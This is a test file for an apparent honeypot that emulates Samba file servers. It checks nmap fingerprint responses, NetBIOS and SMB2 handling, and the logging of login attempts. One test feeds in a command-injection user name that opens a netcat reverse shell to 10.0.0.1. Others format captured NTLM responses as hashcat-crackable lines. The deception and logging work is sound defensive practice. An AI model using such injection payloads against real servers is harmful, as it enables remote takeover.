import { describe, expect, test } from "bun:test";
import { serviceEntries } from "../../src/catalog/index.ts";
import { hostFacts } from "../../src/host/facts.ts";
import { makeContext } from "../../src/services/context.ts";
import { samba } from "../../src/services/samba/index.ts";
import type { SambaTemplates } from "../../src/services/samba/templates.ts";
import type { CatalogEntry, ProtocolEvent, ProtocolSession, Reply } from "../../src/types.ts";
import { toBytes, toLatin1 } from "../../src/wire/bytes.ts";

const catalog = { entries: serviceEntries("samba") as CatalogEntry<SambaTemplates>[], defaultPorts: samba.defaultPorts };
const NOW = new Date("2024-03-05T07:08:09Z");
// 2024-03-05T07:08:09Z as a Windows FILETIME, computed by hand: (1709622489 s + 11644473600 s) * 10^7.
const NOW_FILETIME = 133540960890000000n;

function entry(id: string): CatalogEntry<SambaTemplates> {
  const e = catalog.entries.find((x) => x.id === id);
  if (!e) throw new Error(`no entry ${id}`);
  return e;
}

/** The test host: its clock exact, in Berlin (UTC+1 in March). */
const HOST = { ...hostFacts({ seed: "test", family: "debian" }), clockSkewMs: 0, timeZone: "Europe/Berlin" };

function session(id: string, seed = "s1", localPort = 445): ProtocolSession {
  const s = samba.start(makeContext({ entry: entry(id), hostSeed: "test", host: HOST, sessionSeed: seed, now: () => NOW, localPort }));
  const opened = s.open();
  expect(opened.write).toBeUndefined();
  expect(opened.close).toBeFalsy();
  return s;
}

/** smbd's clock: within the millisecond of NOW, in steps of 10 µs (100 FILETIME ticks), not whole milliseconds. */
function expectSmbdTime(t: bigint): void {
  expect(t >= NOW_FILETIME && t < NOW_FILETIME + 10_000n).toBe(true);
  expect(t % 100n).toBe(0n);
}

function bytes(r: Reply): Uint8Array {
  return r.write === undefined ? new Uint8Array(0) : typeof r.write === "string" ? toBytes(r.write) : r.write;
}

const le16 = (b: Uint8Array, o: number) => b[o]! | (b[o + 1]! << 8);
const le32 = (b: Uint8Array, o: number) => (b[o]! | (b[o + 1]! << 8) | (b[o + 2]! << 16) | (b[o + 3]! << 24)) >>> 0;
const le64 = (b: Uint8Array, o: number) => BigInt(le32(b, o)) | (BigInt(le32(b, o + 4)) << 32n);
const u16 = (v: number) => [v & 0xff, v >> 8];
const u32 = (v: number) => [v & 0xff, (v >>> 8) & 0xff, (v >>> 16) & 0xff, (v >>> 24) & 0xff];
const ascii = (s: string) => [...s].map((c) => c.charCodeAt(0));
const ucs2 = (s: string) => [...s].flatMap((c) => [c.charCodeAt(0), 0]);

/** Wraps an SMB message in a NetBIOS session message (type 0, length in the low 17 bits). */
function nb(payload: number[]): Uint8Array {
  return Uint8Array.from([0, (payload.length >> 16) & 1, (payload.length >> 8) & 0xff, payload.length & 0xff, ...payload]);
}

// nmap's SMBProgNeg probe, written out from nmap-service-probes.
const PROGNEG_DIALECTS = ["PC NETWORK PROGRAM 1.0", "MICROSOFT NETWORKS 1.03", "MICROSOFT NETWORKS 3.0", "LANMAN1.0", "LM1.2X002", "Samba", "NT LANMAN 1.0", "NT LM 0.12"];
const SMBPROGNEG = toBytes(
  "\0\0\0\xa4\xff\x53\x4d\x42\x72\0\0\0\0\x08\x01\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x40\x06\0\0\x01\0\0\x81\0" +
    PROGNEG_DIALECTS.map((d) => `\x02${d}\0`).join(""),
);

// nmap's hard matches (nmap-service-probes lines 13836, 13838, 13842), in JavaScript syntax.
const NMAP_SAMBA_WG_HOST = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0[-\w. ]*\0+@\x06\0\0\x01\0\x11\x06\0.{42}(.*)\0\0(.*)\0\0$/s;
const NMAP_SAMBA_WG = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0[-\w. ]*\0+@\x06\0\0\x01\0\x11\x06\0.*(?:[^\0]|[^_A-Z0-9-]\0)((?:[-\w]\0){2,50})/s;
const NMAP_SAMBA_462 = /^\0\0\0.\xffSMBr\0\0\0\0\x88..\0\0\0\0\0\0\0\0\0\0\0\0\0\0@\x06\0\0\x01\0\x01\xff\xff\0\0$/s;
/** nmap's $P(): keep printable characters only. */
const P = (s: string) => s.replace(/[^\x20-\x7e]/g, "");

/** What nmap -sV would print as extra info for this reply, using its first matching Samba rule. */
function nmapInfo(reply: string): string | undefined {
  const a = NMAP_SAMBA_WG_HOST.exec(reply);
  if (a) return `workgroup: ${P(a[1]!)}`;
  const b = NMAP_SAMBA_WG.exec(reply);
  if (b) return `workgroup: ${P(b[1]!)}`;
  return undefined;
}

interface Smb1Opts {
  cmd: number;
  flags2: number;
  words: number[];
  data: number[];
  uid?: number;
  mid?: number;
}
function smb1({ cmd, flags2, words, data, uid = 0, mid = 2 }: Smb1Opts): Uint8Array {
  const header = [0xff, 0x53, 0x4d, 0x42, cmd, 0, 0, 0, 0, 0x18, ...u16(flags2), ...new Array(12).fill(0), 0, 0, ...u16(0xfeff), ...u16(uid), ...u16(mid)];
  return nb([...header, words.length / 2, ...words, ...u16(data.length), ...data]);
}
function negprot(dialects: string[], flags2: number): Uint8Array {
  return smb1({ cmd: 0x72, flags2, words: [], data: dialects.flatMap((d) => [2, ...ascii(d), 0]) });
}

// Minimal DER/SPNEGO/NTLMSSP as a client sends them (MS-NLMP, RFC 4178).
function der(tag: number, body: number[]): number[] {
  const n = body.length;
  return [tag, ...(n < 128 ? [n] : n < 256 ? [0x81, n] : [0x82, n >> 8, n & 0xff]), ...body];
}
const NTLM_OID = [0x06, 0x0a, 0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x02, 0x0a];
const spnegoInit = (tok: number[]) =>
  der(0x60, [0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02, ...der(0xa0, der(0x30, [...der(0xa0, der(0x30, NTLM_OID)), ...der(0xa2, der(0x04, tok))]))]);
const spnegoResp = (tok: number[]) => der(0xa1, der(0x30, der(0xa2, der(0x04, tok))));
const NTLM_NEGOTIATE = [...ascii("NTLMSSP\0"), ...u32(1), ...u32(0x60088215), ...new Array(16).fill(0)];
function ntlmAuthenticate(user: string, domain: string, ws: string, lm: number[], nt: number[]): number[] {
  const fields = [lm, nt, ucs2(domain), ucs2(user), ucs2(ws), []];
  let off = 64;
  const head: number[] = [];
  const body: number[] = [];
  for (const f of fields) {
    head.push(...u16(f.length), ...u16(f.length), ...u32(off));
    off += f.length;
    body.push(...f);
  }
  return [...ascii("NTLMSSP\0"), ...u32(3), ...head, ...u32(0x60088215), ...body];
}
function sessionSetupExt(blob: number[], uid: number): Uint8Array {
  const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(blob.length), ...u32(0), ...u32(0x8000e054)];
  return smb1({ cmd: 0x73, flags2: 0xc803, words, data: [...blob, ...ucs2("Unix\0"), ...ucs2("Samba\0")], uid });
}

function smb2(cmd: number, body: number[], sessionId = 0, messageId = 0): Uint8Array {
  const header = [0xfe, 0x53, 0x4d, 0x42, ...u16(64), ...u16(0), ...u32(0), ...u16(cmd), ...u16(1), ...u32(0), ...u32(0), ...u32(messageId), ...u32(0), ...u32(0xfeff), ...u32(0), ...u32(sessionId), ...u32(0), ...new Array(16).fill(0)];
  const p = [...header, ...body];
  return Uint8Array.from([0, (p.length >> 16) & 0xff, (p.length >> 8) & 0xff, p.length & 0xff, ...p]);
}
function smb2Negotiate(dialects: number[], contexts?: number[]): Uint8Array {
  const fixed = 36 + dialects.length * 2;
  const ctxOffset = contexts ? (64 + fixed + 7) & ~7 : 0;
  const body = [...u16(36), ...u16(dialects.length), ...u16(1), ...u16(0), ...u32(0x7f), ...ascii("GUIDGUIDGUIDGUID"), ...u32(ctxOffset), ...u16(contexts ? 2 : 0), ...u16(0), ...dialects.flatMap(u16)];
  if (contexts) {
    while (64 + body.length < ctxOffset) body.push(0);
    body.push(...contexts);
  }
  return smb2(0, body);
}

function events(r: Reply, action: ProtocolEvent["action"]): ProtocolEvent[] {
  return (r.events ?? []).filter((e) => e.action === action);
}

describe("samba: the NegProt nmap fingerprints", () => {
  const smb1Entries = catalog.entries.filter((e) => e.templates.smb1);

  test("every SMB1 persona answers SMBProgNeg the way nmap's Samba rules read it", () => {
    expect(smb1Entries.length).toBeGreaterThanOrEqual(4);
    for (const e of smb1Entries) {
      const r = session(e.id).data(SMBPROGNEG);
      expect(r.close).toBeFalsy();
      const out = bytes(r);
      expect(out[0]).toBe(0); // NBSS session message
      expect((out[2]! << 8) | out[3]!).toBe(out.length - 4);
      expect([...out.subarray(4, 9)]).toEqual([0xff, 0x53, 0x4d, 0x42, 0x72]);
      expect(le32(out, 9)).toBe(0); // STATUS_SUCCESS
      expect(out[13]).toBe(0x88); // reply + case-insensitive, echoed
      expect(le16(out, 4 + 26)).toBe(0x0640); // the probe's PID echoed
      expect(le16(out, 4 + 30)).toBe(1); // and its MID
      expect(out[4 + 32]).toBe(17); // NT LM 0.12 reply has 17 words
      // Samba prefers "NT LANMAN 1.0" over "NT LM 0.12", so it names that dialect's index in the probe.
      expect(le16(out, 4 + 33)).toBe(PROGNEG_DIALECTS.indexOf("NT LANMAN 1.0"));
      expect(nmapInfo(toLatin1(out))).toBe(e.info!);
      expect(e.product).toBe("Samba smbd");
      expect(e.version).toBe("3.X - 4.X");
    }
  });

  test("the NT LM 0.12 words carry Samba's values, the clock and an 8-byte challenge", () => {
    const e = entry("samba-3.0.24-debian");
    const out = bytes(session(e.id).data(SMBPROGNEG));
    const w = 4 + 35; // after header and dialect index
    expect(out[w]).toBe(0x03); // user-level security, challenge/response
    expect(le16(out, w + 1)).toBe(50); // max mpx
    expect(le16(out, w + 3)).toBe(1); // max VCs
    expect(le32(out, w + 5)).toBe(16644); // max buffer (smbd's default max xmit)
    expect(le32(out, w + 9)).toBe(0x10000); // max raw
    expect(le32(out, w + 17) & 0x04).toBe(0x04); // CAP_UNICODE
    expect((le32(out, w + 17) & 0x80000000) >>> 0).toBe(0); // no extended security: nmap did not ask
    expectSmbdTime(le64(out, w + 21));
    expect(le16(out, w + 29)).toBe(0x10000 - 60); // ServerTimeZone: UTC is 60 minutes behind Berlin's wall clock
    expect(out[w + 31]).toBe(8); // challenge length
    const byteCount = le16(out, w + 32);
    expect(byteCount).toBe(out.length - (w + 34));
    const wg = "WORKGROUP";
    expect(byteCount).toBe(8 + (wg.length + 1) * 2); // challenge + Unicode workgroup, terminated
    expect(toLatin1(out.subarray(w + 34 + 8))).toBe(`${wg.split("").join("\0")}\0\0\0`);
  });

  test("Samba 4 adds its NetBIOS name after the workgroup, upper-cased from the host name", () => {
    const ctx = makeContext({ entry: entry("samba-4.5.16-debian"), hostSeed: "test", sessionSeed: "s1", now: () => NOW });
    const s = samba.start(ctx);
    s.open();
    const reply = toLatin1(bytes(s.data(SMBPROGNEG)));
    const m = NMAP_SAMBA_WG_HOST.exec(reply);
    expect(m).not.toBeNull();
    expect(P(m![1]!)).toBe("MSHOME");
    expect(P(m![2]!)).toBe(ctx.hostname.toUpperCase().slice(0, 15));
  });

  test("nmap reads the right workgroup whatever the random challenge is", () => {
    for (const e of smb1Entries) {
      for (let i = 0; i < 150; i++) {
        expect(nmapInfo(toLatin1(bytes(session(e.id, `seed-${i}`).data(SMBPROGNEG))))).toBe(e.info!);
      }
    }
  });

  test("the SMB1-disabled Samba 4.6.2 says 'no dialect' and hangs up, as nmap's 4.6.2 rule expects", () => {
    const e = entry("samba-4.6.2-rhel7");
    expect(e.version).toBe("4.6.2");
    const r = session(e.id).data(SMBPROGNEG);
    expect(r.close).toBe(true);
    expect(NMAP_SAMBA_462.test(toLatin1(bytes(r)))).toBe(true);
  });

  test("the probe split into single bytes gives the same answer", () => {
    const whole = bytes(session("samba-3.6.25-freebsd").data(SMBPROGNEG));
    const s = session("samba-3.6.25-freebsd");
    const parts: Uint8Array[] = [];
    for (const b of SMBPROGNEG) {
      const r = s.data(Uint8Array.of(b));
      expect(r.close).toBeFalsy();
      if (r.write !== undefined) parts.push(bytes(r));
    }
    expect(parts.length).toBe(1);
    expect([...parts[0]!]).toEqual([...whole]);
  });
});

describe("samba: NetBIOS session service", () => {
  test("a session request on 139 gets the positive response 0x82, once", () => {
    const s = session("samba-3.0.24-debian", "s1", 139);
    const called = [0x20, ...ascii("CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"), 0];
    const req = [0x81, 0, 0, called.length * 2, ...called, ...called];
    expect([...bytes(s.data(Uint8Array.from(req)))]).toEqual([0x82, 0, 0, 0]);
    // Then the NegProt works as usual on the session.
    expect(bytes(s.data(SMBPROGNEG))[8]).toBe(0x72);
    // smbd refuses a second session request.
    expect(s.data(Uint8Array.from(req)).close).toBe(true);
  });

  test("keepalives are swallowed; the odd 0x89 keepalive request is answered with 0x85", () => {
    const s = session("samba-3.0.24-debian");
    const r = s.data(Uint8Array.of(0x85, 0, 0, 0));
    expect(r.write).toBeUndefined();
    expect(r.close).toBeFalsy();
    expect([...bytes(s.data(Uint8Array.of(0x89, 0, 0, 0)))]).toEqual([0x85, 0, 0, 0]);
  });

  test("what is not NetBIOS framing (HTTP, TLS, RPC) closes the connection without a word", () => {
    for (const junk of ["GET / HTTP/1.0\r\n\r\n", "\r\n\r\n", "\x16\x03\x01\x00\x2f\x01\x00\x00\x2b\x03\x01", "\x80\0\0\x28\x72\xfe\x1d\x13"]) {
      const r = session("samba-4.5.16-debian").data(toBytes(junk));
      expect(r.close).toBe(true);
      expect(bytes(r).length).toBe(0);
    }
  });

  test("session messages that are not SMB, or empty, are refused at once", () => {
    // nmap's DNSVersionBindReqTCP looks like a session message of 30 bytes.
    const dns = toBytes("\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04bind\0\0\x10\0\x03");
    expect(session("samba-3.0.24-debian").data(dns).close).toBe(true);
    expect(session("samba-3.0.24-debian").data(Uint8Array.of(0, 0, 0, 0)).close).toBe(true);
    // The decision does not wait for the declared 131071 bytes once the first body bytes are wrong.
    expect(session("samba-3.0.24-debian").data(toBytes("\0\x01\xff\xffJUNK")).close).toBe(true);
  });

  test("a half-received frame waits; a flood of frames stays bounded and ends in a close", () => {
    const s = session("samba-3.0.24-debian");
    const head = s.data(toBytes("\0\x01\xff\xff\xffSMB"));
    expect(head.close).toBeFalsy();
    expect(head.write).toBeUndefined();
    // 300 KB of zeros: completes the 131071-byte frame (not a valid SMB), so the session ends.
    const r = s.data(new Uint8Array(300 * 1024));
    expect(r.close).toBe(true);
    expect(bytes(r).length).toBeLessThan(1024);
  });

  test("random binary garbage never throws and never produces more than a small answer", () => {
    let state = 12345;
    const rand = () => (state = (state * 1103515245 + 12345) & 0x7fffffff) & 0xff;
    for (let i = 0; i < 300; i++) {
      const s = session(catalog.entries[i % catalog.entries.length]!.id, `g${i}`);
      for (let k = 0; k < 5; k++) {
        const chunk = Uint8Array.from({ length: 1 + (rand() % 200) }, rand);
        if (k === 0 && i % 2 === 0) chunk[0] = 0; // half of them look like session messages
        const r = s.data(chunk);
        expect(bytes(r).length).toBeLessThan(4096);
        if (r.close) break;
      }
    }
  });

  test("SMB2 to a Samba 3 persona is dropped, as smbd 3.x drops non-SMB1 packets", () => {
    expect(session("samba-3.0.24-debian").data(smb2Negotiate([0x0202, 0x0210])).close).toBe(true);
  });
});

describe("samba: logins are logged, never granted beyond guest", () => {
  test("NTLMSSP over SPNEGO: challenge, then the AUTHENTICATE is logged with a crackable line", () => {
    const s = session("samba-3.0.33-rhel5");
    const neg = bytes(s.data(negprot(["NT LM 0.12"], 0xc853)));
    const w = 4 + 35;
    expect((le32(neg, w + 17) & 0x80000000) >>> 0).toBe(0x80000000); // CAP_EXTENDED_SECURITY
    expect(out8(neg, w + 31)).toBe(0); // no challenge in the negprot with extended security
    // The server GUID: smbd's lower-case NetBIOS name, zero padded.
    const guid = toLatin1(neg.subarray(w + 34, w + 50)).replace(/\0+$/, "");
    expect(guid).toBe(guid.toLowerCase());
    expect(guid.length).toBeGreaterThan(0);

    const r1 = s.data(sessionSetupExt(spnegoInit(NTLM_NEGOTIATE), 0));
    const b1 = bytes(r1);
    expect(le32(b1, 4 + 5)).toBe(0xc0000016); // STATUS_MORE_PROCESSING_REQUIRED
    const uid = le16(b1, 4 + 28);
    expect(uid).toBeGreaterThan(0);
    const at = toLatin1(b1).indexOf("NTLMSSP\0");
    expect(at).toBeGreaterThan(0);
    expect(le32(b1, at + 8)).toBe(2); // CHALLENGE_MESSAGE
    const challenge = Buffer.from(b1.subarray(at + 24, at + 32)).toString("hex");
    // The target info names the server: its NetBIOS name in the NbComputerName pair.
    expect(toLatin1(b1)).toContain(guid.toUpperCase().split("").join("\0"));

    const nt = Array.from({ length: 24 }, (_, i) => i + 1);
    const r3 = s.data(sessionSetupExt(spnegoResp(ntlmAuthenticate("administrator", "CORP", "KALI", new Array(24).fill(0), nt)), uid));
    expect(le32(bytes(r3), 4 + 5)).toBe(0xc000006d); // STATUS_LOGON_FAILURE: RHEL does not map bad users to guest
    // A 24-byte NT response is NTLMv1: hashcat -m 5500 reads user::domain:lm:nt:challenge.
    expect(events(r3, "login")).toEqual([
      {
        action: "login",
        method: "smb1-ntlmssp",
        user: "administrator",
        domain: "CORP",
        hash: { value: `administrator::CORP:${"00".repeat(24)}:${Buffer.from(nt).toString("hex")}:${challenge}`, type: "netntlmv1", hashcatMode: 5500 },
        client: { workstation: "KALI" },
      },
    ]);
  });

  test("Debian maps unknown users to guest: the session setup succeeds with the guest bit and Samba's strings", () => {
    const s = session("samba-3.0.24-debian");
    s.data(negprot(["NT LM 0.12"], 0x4001));
    const user = "/=`nohup nc -e /bin/sh 10.0.0.1 4444`";
    const words = [0xff, 0, 0, 0, ...u16(0xffff), ...u16(2), ...u16(1), ...u32(0), ...u16(7), ...u16(0), ...u32(0), ...u32(0xd4)];
    const data = [...ascii("secret\0"), ...ascii(user), 0, ...ascii("WG"), 0, ...ascii("Unix"), 0, ...ascii("Samba"), 0];
    const r = s.data(smb1({ cmd: 0x73, flags2: 0x4001, words, data }));
    const b = bytes(r);
    expect(le32(b, 4 + 5)).toBe(0);
    expect(b[4 + 32]).toBe(3);
    expect(le16(b, 4 + 33 + 4)).toBe(1); // action: logged in as guest
    expect(toLatin1(b)).toContain("Unix\0Samba 3.0.24\0WORKGROUP\0");
    // usermap_script payloads arrive as the user name; the plaintext password is kept too.
    expect(events(r, "login")).toEqual([{ action: "login", method: "smb", user, domain: "WG", password: "secret", client: { os: "Unix", lanman: "Samba" } }]);
  });

  test("a command before the NegProt, or a second NegProt, ends the connection like smbd", () => {
    expect(session("samba-3.0.24-debian").data(smb1({ cmd: 0x75, flags2: 0x4001, words: [0xff, 0, 0, 0, 0, 0, 1, 0], data: [0] })).close).toBe(true);
    const s = session("samba-3.0.24-debian");
    s.data(SMBPROGNEG);
    expect(s.data(SMBPROGNEG).close).toBe(true);
  });
});

describe("samba: SMB2 on the Samba 4 personas", () => {
  test("SMB2 NEGOTIATE picks the highest common dialect and offers SPNEGO", () => {
    const r = session("samba-4.6.2-rhel7").data(smb2Negotiate([0x0202, 0x0210, 0x0300, 0x0302]));
    expect(r.close).toBeFalsy();
    const b = bytes(r);
    expect((b[1]! << 16) | (b[2]! << 8) | b[3]!).toBe(b.length - 4);
    const m = b.subarray(4);
    expect([...m.subarray(0, 4)]).toEqual([0xfe, 0x53, 0x4d, 0x42]);
    expect(le16(m, 12)).toBe(0); // NEGOTIATE
    expect(le32(m, 8)).toBe(0);
    expect(le32(m, 16) & 1).toBe(1); // server-to-redirector
    expect(le16(m, 64)).toBe(65);
    expect(le16(m, 68)).toBe(0x0302);
    const secOff = le16(m, 64 + 56);
    const secLen = le16(m, 64 + 58);
    expect(secOff).toBe(0x80);
    expect(secOff + secLen).toBe(m.length);
    // SPNEGO OID 1.3.6.1.5.5.2 at the start of the token.
    expect([...m.subarray(secOff, secOff + 10)].slice(2)).toEqual([0x06, 0x06, 0x2b, 0x06, 0x01, 0x05, 0x05, 0x02]);
    expectSmbdTime(le64(m, 64 + 40));
  });

  test("SMB 3.1.1 answers with a SHA-512 preauth context and the cipher the client offered", () => {
    const pre = [...u16(1), ...u16(38), ...u32(0), ...u16(1), ...u16(32), ...u16(1), ...new Array(32).fill(0x53), 0, 0];
    const enc = [...u16(2), ...u16(6), ...u32(0), ...u16(2), ...u16(1), ...u16(2)];
    const b = bytes(session("samba-4.5.16-debian").data(smb2Negotiate([0x0202, 0x0300, 0x0311], [...pre, ...enc]))).subarray(4);
    expect(le16(b, 68)).toBe(0x0311);
    expect(le16(b, 70)).toBe(2); // two contexts
    const off = le32(b, 64 + 60);
    expect(off % 8).toBe(0);
    expect(le16(b, off)).toBe(1); // preauth integrity
    expect(le16(b, off + 8)).toBe(1); // one hash algorithm
    expect(le16(b, off + 10)).toBe(32); // 32-byte salt
    expect(le16(b, off + 12)).toBe(1); // SHA-512
    const enc2 = (off + 8 + 38 + 7) & ~7;
    expect(le16(b, enc2)).toBe(2);
    expect(le16(b, enc2 + 10)).toBe(2); // AES-128-GCM chosen over CCM
  });

  test("an SMB1 NegProt offering 'SMB 2.???' gets an SMB2 answer with the wildcard dialect", () => {
    const b = bytes(session("samba-4.5.16-debian").data(negprot(["NT LM 0.12", "SMB 2.002", "SMB 2.???"], 0xc853))).subarray(4);
    expect([...b.subarray(0, 4)]).toEqual([0xfe, 0x53, 0x4d, 0x42]);
    expect(le16(b, 68)).toBe(0x02ff);
  });

  test("no common dialect: STATUS_NOT_SUPPORTED and a hang-up", () => {
    const r = session("samba-4.6.2-rhel7").data(smb2Negotiate([0x0100]));
    expect(r.close).toBe(true);
    expect(le32(bytes(r), 4 + 8)).toBe(0xc00000bb);
  });

  test("SMB2 session setup logs the NTLM user; tree connects are logged too", () => {
    const s = session("samba-4.5.16-debian");
    s.data(smb2Negotiate([0x0202, 0x0210]));
    const ssBody = (blob: number[]) => [...u16(25), 0, 1, ...u32(1), ...u32(0), ...u16(64 + 24), ...u16(blob.length), ...u32(0), ...u32(0), ...blob];
    const r1 = bytes(s.data(smb2(1, ssBody(spnegoInit(NTLM_NEGOTIATE)), 0, 1))).subarray(4);
    expect(le32(r1, 8)).toBe(0xc0000016);
    const sid = le32(r1, 40);
    expect(sid).not.toBe(0);
    const challenge = Buffer.from(r1.subarray(toLatin1(r1).indexOf("NTLMSSP\0") + 24).subarray(0, 8)).toString("hex");
    const r3 = s.data(smb2(1, ssBody(spnegoResp(ntlmAuthenticate("bob", "", "", [], Array.from({ length: 40 }, () => 7)))), sid, 2));
    // A longer NT response is NTLMv2: hashcat -m 5600 reads user::domain:challenge:NTProofStr:blob.
    expect(events(r3, "login")).toEqual([
      { action: "login", method: "smb2-ntlmssp", user: "bob", hash: { value: `bob:::${challenge}:${"07".repeat(16)}:${"07".repeat(24)}`, type: "netntlmv2", hashcatMode: 5600 } },
    ]);
    const b3 = bytes(r3).subarray(4);
    expect(le32(b3, 8)).toBe(0); // Debian: guest
    expect(le16(b3, 64 + 2)).toBe(1); // SMB2_SESSION_FLAG_IS_GUEST
    const path = ucs2("\\\\FILES\\backup");
    const tc = s.data(smb2(3, [...u16(9), ...u16(0), ...u16(64 + 8), ...u16(path.length), ...path], sid, 3));
    expect(events(tc, "command")[0]?.command).toBe("SMB2 TREE_CONNECT \\\\FILES\\backup");
    expect(le32(bytes(tc), 4 + 8)).toBe(0xc00000cc); // STATUS_BAD_NETWORK_NAME
  });

  test("an SMB2 frame claiming more than 128 KiB is refused", () => {
    const s = session("samba-4.5.16-debian");
    s.data(smb2Negotiate([0x0202]));
    expect(s.data(Uint8Array.of(0, 0x7f, 0xff, 0xff, 0xfe, 0x53, 0x4d, 0x42)).close).toBe(true);
  });
});

function out8(b: Uint8Array, o: number): number {
  return b[o]!;
}
